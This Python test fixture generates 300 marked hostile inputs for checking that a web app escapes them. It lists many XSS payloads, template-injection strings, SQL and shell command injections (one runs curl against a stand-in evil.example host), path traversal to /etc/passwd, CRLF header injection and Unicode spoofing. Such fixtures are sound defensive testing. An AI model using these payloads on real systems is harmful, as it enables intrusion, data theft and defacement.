"""Three hundred texts that would be scripts, markup or addresses if a page let them; and stories full of them.

Invariant: each text has a mark of its own (`zq007z`), by which a page shows that it was there.
"""

import itertools
from collections.abc import Iterable, Iterator
from dataclasses import replace

from sayso.model import Comparison, Story, Verdict
from tests.dossier.making import make_story
from tests.dossier.stories import hostile_story

__all__ = ["HOSTILE", "MARK", "harmless", "story_of"]

MARK = "zq{:03}z"

# What would say that it ran: `hit` stands for a call that a browser's test listens for.
_TAGS = (
    "<script>{hit}</script>",
    "<ScRiPt >{hit}</sCrIpT\t>",
    "<script src=https://evil.example/{m}.js></script>",
    "<img src=x onerror={hit}>",
    "<img src=https://evil.example/{m}.png>",
    "<svg onload={hit}>",
    "<svg><script>{hit}</script></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{hit}'><text y=20>{m}</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={hit}></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    "<iframe src=https://evil.example/{m}></iframe>",
    "<object data='data:text/html,<script>{hit}</script>'></object>",
    "<embed src=https://evil.example/{m}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{m}'>",
    "<link rel=stylesheet href=https://evil.example/{m}.css>",
    "<style>*{{background:url(https://evil.example/{m})}}</style>",
    "<form action=https://evil.example/{m}><button autofocus>{m}</button></form>",
    "<input autofocus onfocus={hit}>",
    "<details open ontoggle={hit}>{m}</details>",
    "<video><source onerror={hit}></video>",
    "<body onload={hit}>",
    "<marquee onstart={hit}>{m}</marquee>",
    "<template><script>{hit}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={hit}>'></noscript>",
    "<textarea></textarea><img src=x onerror={hit}>",
    "<title></title><script>{hit}</script>",
    "<!--><img src=x onerror={hit}>-->",
    "<![CDATA[><script>{hit}</script>]]>",
    "<?xml-stylesheet href='javascript:{hit}'?>",
    "<x onclick={hit} tabindex=1>{m}</x>",
    "<a href=javascript:{hit}>{m}</a>",
    "<a href='https://evil.example/{m}' ping='https://evil.example/p'>{m}</a>",
    "<div hx-get=https://evil.example/{m} hx-trigger=load></div>",
    "<div hx-on:load={hit} hx-on--load={hit}></div>",
    "<div data-hx-get=/people hx-trigger=load hx-target=body></div>",
    '<button hx-post=/people/remove hx-vals=\'{{"name": "Ada"}}\' hx-trigger=load></button>',
    "<bdi></bdi></bdo><script>{hit}</script>",
    "<mark></mark></blockquote></main></body></html><script>{hit}</script>",
)
_ATTRIBUTES = (
    '" onmouseover="{hit}',
    "' onmouseover='{hit}",
    '" autofocus onfocus={hit} x="',
    "' autofocus onfocus={hit} x='",
    "` onmouseover=`{hit}",
    '"><script>{hit}</script>',
    "'><script>{hit}</script>",
    '" style="background:url(https://evil.example/{m})',
    '" hx-get="https://evil.example/{m}" hx-trigger="load',
    '" href="javascript:{hit}',
    "x onerror={hit}",
    '"/><svg/onload={hit}>',
)
_ADDRESSES = (
    "javascript:{hit}",
    "JaVaScRiPt:{hit}",
    "java\tscript:{hit}",
    "java\nscript:{hit}",
    "\x01javascript:{hit}",
    " javascript:{hit}",
    "javascript://%0a{hit}",
    "data:text/html,<script>{hit}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={m}",
    "vbscript:msgbox({m})",
    "//evil.example/{m}",
    "\\\\evil.example\\{m}",
    "https://evil.example/{m}",
    "https://127.0.0.1@evil.example/{m}",
    "/logout?{m}",
    "blob:https://evil.example/{m}",
    "view-source:https://evil.example/{m}",
)
_TEMPLATES = (
    "{{{{ 7 * 7 }}}}{m}",
    "{{% for x in ().__class__.__mro__[1].__subclasses__() %}}{m}{{% endfor %}}",
    "{{{{ desk.door.people.path }}}}{m}",
    "{{# {m} #}}",
    "${{7*7}}{m}",
    "<%= 7*7 %>{m}",
    "#{{7*7}}{m}",
    "{{{{constructor.constructor('{hit}')()}}}}",
    "%(done)s %s %d {m}",
    "{{0.__class__}} {{}} {m}",
    "\\u003cscript\\u003e{hit}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{hit}\\x3c/script\\x3e",
    "&lt;script&gt;{hit}&lt;/script&gt;",
    "&#60;script&#62;{hit}&#60;/script&#62;",
    "&#x3c;img src=x onerror={hit}&#x3e;",
    "&NewLine;javascript&colon;{hit}",
    "&quot; onmouseover=&quot;{hit}",
    "%3Cscript%3E{hit}%3C/script%3E",
    "+ADw-script+AD4-{hit}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{hit}\uff1c/script\uff1e",
)
_STYLES = (
    "</style><script>{hit}</script>",
    "expression({hit})",
    "}}*{{background:url(https://evil.example/{m})}}",
    "@import 'https://evil.example/{m}.css';",
    "-moz-binding:url(https://evil.example/{m})",
    "position:fixed;inset:0;z-index:9999;{m}",
)
_LETTERS = (
    "\u202e{m}gnp.exe",
    "\u2067{m}\u2066\u2069\u202c",
    "\u200f{m}\u200e\u061c",
    "{m}\0<script>{hit}</script>",
    "<scr\0ipt>{hit}</scr\0ipt>{m}",
    "<\u0000img src=x onerror={hit}>",
    "\x1b[31m{m}\x1b]0;title\x07",
    "\x7f\x80\x9b{m}",
    "\ufeff{m}\u200b\u2060",
    "\ufffe\uffff{m}",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0348\u0332\u031dl{m}",
    "{m}" + "\U0001f469\u200d\U0001f4bb" * 5,
    "\U000e0001\U000e0073{m}",
    "\u2028{hit}\u2029",
    "\u1680{m}\u3000",
    "{m}\r\nSet-Cookie: sayso=x\r\n\r\n<script>{hit}</script>",
    "{m}\r\nContent-Type: text/html\r\n\r\n<img src=x onerror={hit}>",
    "{m}\n\n## Heading\n\n[x](javascript:{hit})",
    '=HYPERLINK("https://evil.example/{m}")',
    "'; DROP TABLE claim; -- {m}",
    '" OR ""="{m}',
    "$(curl https://evil.example/{m})",
    "`id`{m}",
    "| cat /etc/passwd {m}",
)
_PATHS = (
    "../../../../etc/passwd{m}",
    "..\\..\\windows\\win.ini{m}",
    "/etc/passwd%00{m}.txt",
    "....//....//{m}",
    "%2e%2e%2f{m}",
    "file:///etc/passwd?{m}",
    "CON{m}.txt:stream",
    "{m}/../../people",
    "?name=Ada&{m}",
    '#{m}"><script>{hit}</script>',
)
_KINDS = (_TAGS, _ATTRIBUTES, _ADDRESSES, _TEMPLATES, _STYLES, _LETTERS, _PATHS)
_WRAPS = ("{} {m}", '{m} "{}', "{m} '{}", "{m} </a></p></bdi></q>{}", "{m} -->{}", "{m} <b {}")


def _made() -> Iterator[str]:
    plain = list(itertools.chain.from_iterable(_KINDS))
    wrapped = itertools.chain.from_iterable(zip(*_KINDS[:3], strict=False))
    bases = itertools.chain(((text, _WRAPS[0]) for text in plain), zip(wrapped, itertools.cycle(_WRAPS[1:])))
    more = ((text, wrap) for wrap in _WRAPS[1:] for text in _TAGS + _ATTRIBUTES)
    for number, (text, wrap) in enumerate(itertools.islice(itertools.chain(bases, more), 300)):
        mark = MARK.format(number)
        filled = text.format(m=mark, hit=f"window.hit('{mark}')")
        yield wrap.replace("{m}", mark).replace("{}", filled, 1)


HOSTILE = tuple(_made())


_HARMLESS = (
    "quite harmless words {}",
    "\u201cquite harmless words\u201d {}",
    '"quite harmless words" {}',
    "quite harmless {}\n\nwords",
    "https://post.example/quite/{}",
    "quite {}. Harmless words, said twice: harmless.",
    "a, b; c: {}",
)


def harmless(number: int) -> str:
    """A text in the place of the hostile one with this number; in every form that a page shows in a way of its own."""
    return _HARMLESS[number % len(_HARMLESS)].format(MARK.format(number))


def story_of(texts: Iterable[str]) -> Story:
    """One story with a hostile report for each text."""
    stories = [hostile_story(text) for text in texts]
    parts = [story.comparison for story in stories]
    comparison = Comparison(
        **{name: tuple(one for part in parts for one in getattr(part, name)) for name in Comparison.__slots__}
    )
    known = {claim.id for story in stories for claim in story.claims}
    judgements = (
        replace(judgement, id=f"j1:{number}-{judgement.id[3:]}")
        for number, story in enumerate(stories)
        for judgement in story.judgements
        if judgement.on in known or judgement.verdict is Verdict.RATE
    )
    return make_story(
        (document for story in stories for document in story.documents),
        (claim for story in stories for claim in story.claims),
        comparison,
        judgements=tuple(judgements),
    )
